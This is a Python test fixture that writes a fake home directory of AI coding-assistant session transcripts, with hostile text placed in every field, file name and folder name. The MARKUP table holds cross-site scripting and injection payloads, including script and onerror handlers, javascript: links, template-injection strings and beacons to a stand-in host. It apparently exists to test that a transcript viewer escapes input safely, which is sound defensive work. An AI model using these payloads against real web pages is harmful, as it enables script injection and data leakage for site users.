"""A home in which every field of every kind of entry tries to run, request or hide something."""

from __future__ import annotations

import json
import shlex
from pathlib import Path
from typing import Any

from tests.cli.test_cli_hostile import EVERYTHING
from tests.transcripts import Part, Pen, Row, call, chain, meta, prompt, reply, transcript, write

# Each would be noticed: by a dialog, a request, or an element with the attribute or the id `evil`.
MARKUP = {
    "script": "<script id=evil>alert('script')</script>",
    "image": "<img evil src=x onerror=alert('image')>",
    "quote": "\"'><img evil src=x onerror=alert('quote')>",
    "closing": "</script></textarea></title></style></pre></template><svg evil onload=alert('closing')>",
    "svg": "<svg evil xmlns='http://www.w3.org/2000/svg'><script>alert('svg')</script><image href='http://evil.invalid/s'/></svg>",
    "attribute": "\" autofocus onfocus=alert('attribute') evil=\"",
    "frame": "<iframe evil src='javascript:alert(1)'></iframe><object evil data='http://evil.invalid/o'></object>",
    "base": "<base evil href='http://evil.invalid/'><meta evil http-equiv=refresh content='0;url=http://evil.invalid/'>",
    "style": "<style id=evil>@import 'http://evil.invalid/c';body{background:url(http://evil.invalid/b)}</style>",
    "form": "<form evil action='http://evil.invalid/'><input evil autofocus onfocus=alert('form')></form>",
    "comment": "<!--><img evil src=x onerror=alert('comment')>-->",
    "entity": "&lt;img evil src=x onerror=alert('entity')&gt;&#60;script id=evil&#62;alert(1)&#60;/script&#62;",
    "link": "[a](javascript:alert('link')) [b](data:text/html,<script>alert(1)</script>) <javascript:alert(1)>",
    "beacon": "![x](http://evil.invalid/?q=1) ![y][r]\n\n[r]: http://evil.invalid/r 'x'\n\n[z](//evil.invalid/z)",
    "fence": "```<img/evil/src=x/onerror=alert('fence')>\n</code></pre><img evil src=x onerror=alert('fence')>\n```",
    "address": "javascript:alert('address')",
    "template": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> {% raw %}",
    "null": "<scr\x00ipt>alert(1)</scr\x00ipt><\x00img evil src=x onerror=alert(1)>",
    "ansi and bidi": EVERYTHING.encode("utf-8", "replace").decode(),
}
LONGEST = "50000000-0000-4000-8000-00000000beef"
_SESSION = "5e551011-0000-4000-8000-{:012}"
_MARKDOWN = "# TEXT\n\n> TEXT\n\n| TEXT | b |\n|---|---|\n| TEXT | `TEXT` |\n\n- TEXT\n\n```TEXT\nTEXT\n```"
_TOOLS = ("Bash", "Read", "Edit", "MultiEdit", "Write", "Grep", "Glob", "WebSearch", "WebFetch", "Agent", "Task")


def sessions() -> dict[str, str]:
    """The session id of each text."""
    return {_SESSION.format(number): name for number, name in enumerate(MARKUP, 1)}


def make(home: Path) -> None:
    """Write the home: a session for each text, one with lines of megabytes, and hostile names of files and folders."""
    for identity, name in sessions().items():
        text = MARKUP[name]
        folder = home / "projects" / f"-a{_file_name(text)}"
        _write(folder / f"{identity}.jsonl", text, identity)
        _write(
            folder / identity / "subagents" / "agent-a1b2c3.jsonl", text, identity, isSidechain=True, agentId="a1b2c3"
        )
        (folder / identity / "subagents" / "agent-a1b2c3.meta.json").write_text(
            json.dumps({"agentType": text, "description": text, "toolUseId": text, "name": text})
        )
    for name in ("image", "quote", "attribute", "script"):
        _write(home / "projects" / "-named" / f"{_file_name(MARKUP[name])}.jsonl", MARKUP[name], MARKUP[name])
    _write(
        home / "projects" / "-named" / f"agent-{_file_name(MARKUP['quote'])}.jsonl", MARKUP["quote"], _SESSION.format(1)
    )
    write(home / "projects" / "-long" / f"{LONGEST}.jsonl", *transcript(*_long(), pen=Pen(LONGEST)))
    rows = [{"display": text, "project": f"/{text}", "timestamp": 1_790_000_000_000} for text in MARKUP.values()]
    (home / "history.jsonl").write_text("".join(f"{json.dumps(row)}\n" for row in rows))


def _file_name(text: str) -> str:
    """As much of a text as a file name can contain."""
    plain = text.replace("/", "\u2215").replace("\x00", "").encode(errors="ignore")[:120]
    return plain.decode(errors="ignore")


def _write(path: Path, text: str, session: str, **fields: Any) -> None:
    pen = Pen(session, cwd=f"/{text}", gitBranch=text, version=text, slug=text, sessionKind=text, **fields)
    rows = transcript(*_parts(text), pen=pen)
    write(path, *(json.dumps(row).encode() + b"\n" for row in rows if isinstance(row, dict)))


def _parts(text: str) -> list[Part]:
    """Every kind of row, with the text in every possible place."""
    image: Row = {"type": "image", "source": {"type": "base64", "media_type": text, "data": text}}
    svg: Row = {"type": "image", "source": {"type": "base64", "media_type": "image/svg+xml", "data": "PHN2Zy8+"}}
    return [
        prompt(text),
        prompt([{"type": "text", "text": text}, image, svg]),
        prompt(f"<command-name>{text}</command-name><command-args>{text}</command-args>"),
        prompt(f"<bash-input>{text}</bash-input>"),
        prompt(f"<local-command-stdout>{text}</local-command-stdout>"),
        reply(text, {"type": "thinking", "thinking": text, "signature": text}, message={"model": text}),
        reply(_MARKDOWN.replace("TEXT", text)),
        reply({"type": text, text: text}, message={"id": text, "stop_reason": text}),
        *(call(tool, _arguments(text), result=text, details=_arguments(text)) for tool in _TOOLS),
        call(text, _arguments(text), result=[{"type": "text", "text": text}, image, svg], details=text, error=True),
        call(f"mcp__{text}__{text}", {text: text}, result=text, details={text: text}),
        call("TodoWrite", {"todos": [{"content": text, "status": text, "activeForm": text}]}, result=text, details={}),
        call(
            "TaskCreate",
            {"subject": text, "description": text},
            result=text,
            details={"task": {"id": text, "subject": text}},
        ),
        call("AskUserQuestion", _questions(text), result=text, details={**_questions(text), "answers": {text: text}}),
        call("ExitPlanMode", {"plan": text}, result=text, details={"plan": text, "filePath": text}),
        call(
            "Read",
            text,
            result=text,
            details={"type": "text", "file": {"filePath": text, "content": text, "numLines": 1}},
        ),
        call(
            "Edit",
            _edit(text),
            result=text,
            details={**_edit(text), "structuredPatch": [_hunk(text)], "originalFile": text},
        ),
        call("Write", _edit(text), result=text, details={"type": "create", **_edit(text), "structuredPatch": []}),
        call("NotebookEdit", {"notebook_path": text, "new_source": text}, result=text, details={"error": text}),
        *_commits(text),
        chain("system", subtype=text, content=text, level=text),
        chain("system", subtype="compact_boundary", content=text, compactMetadata={"trigger": text, "preTokens": 5}),
        chain("user", message={"role": "user", "content": text}, isCompactSummary=True),
        chain("system", subtype="api_error", error={"message": text, "type": text}, content=text),
        chain("system", subtype="local_command", content=f"<command-name>{text}</command-name>"),
        chain("attachment", attachment={"type": text, "content": text}),
        chain("attachment", attachment={"type": "queued_command", "prompt": text}),
        chain("progress", data={"type": text, "content": text}, toolUseID=text),
        chain("user", message={"role": text, "content": {text: text}}),
        chain("user", message=text, toolUseResult=text),
        meta(text, value=text),
        meta("summary", summary=text, leafUuid=text),
        meta("custom-title", customTitle=text),
        meta("ai-title", aiTitle=text),
        meta("pr-link", prUrl=text, prNumber=text, prRepository=text),
        {text: text},
    ]


def _arguments(text: str) -> Row:
    """The arguments of every tool at once, and unknown keys."""
    names = (
        "command description file_path pattern path glob query url prompt subagent_type old_string new_string content "
        "stdout stderr filenames status agentId name model output_mode run_in_background"
    )
    return {**dict.fromkeys(names.split(), text), text: text, "edits": [_edit(text)], "structuredPatch": [_hunk(text)]}


def _edit(text: str) -> Row:
    return {"file_path": text, "filePath": text, "old_string": text, "new_string": f"{text}!", "content": text}


def _commits(text: str) -> list[Part]:
    """A commit whose branch and subject are the text, a pull request, and failing tests named like it."""
    first = text.splitlines()[0]
    command = {"command": f"git commit -m {shlex.quote(text)}", "description": text}
    printed = f"[{first} (root-commit) abc1234] {first}\n 1 file changed, 1 insertion(+)\n"
    create = {"command": f"gh pr create --title {shlex.quote(text)}"}
    address = "https://github.com/you/app/pull/7"
    tests = f"FAILED tests/test_a.py::{first} - {first}\n1 failed, 2 passed in 0.10s\n"
    return [
        call("Bash", command, result=printed, details={"stdout": printed}),
        call("Bash", {"command": "git commit -m ok"}, result=f"[main abc1235] {first}\n 1 file changed\n"),
        call("Bash", create, result=address, details={"stdout": address}),
        call("Bash", {"command": f"pytest {first}"}, result=tests, details={"stdout": tests}, error=True),
    ]


def _hunk(text: str) -> Row:
    return {"oldStart": 1, "oldLines": 1, "newStart": 1, "newLines": 1, "lines": [f"-{text}", f"+{text}!"]}


def _questions(text: str) -> Row:
    option = {"label": text, "description": text, "preview": text}
    return {"questions": [{"question": text, "header": text, "options": [option], "multiSelect": False}]}


def _long() -> list[Part]:
    """Lines of five megabytes: one word, many lines, markup, and combining marks on one letter."""
    size = 5_000_000
    return [
        prompt("x" * size),
        reply("word " * (size // 5)),
        reply("<b>" * (size // 3)),
        reply("*a" * 50_000 + "[" * 50_000 + "`" * 50_001 + "\n> " * 2_000),
        call("Bash", "cat big", result="line\n" * (size // 5), details={"stdout": "line\n" * (size // 5)}),
        prompt("e" + "\u0301" * 100_000),
        reply("The end."),
    ]
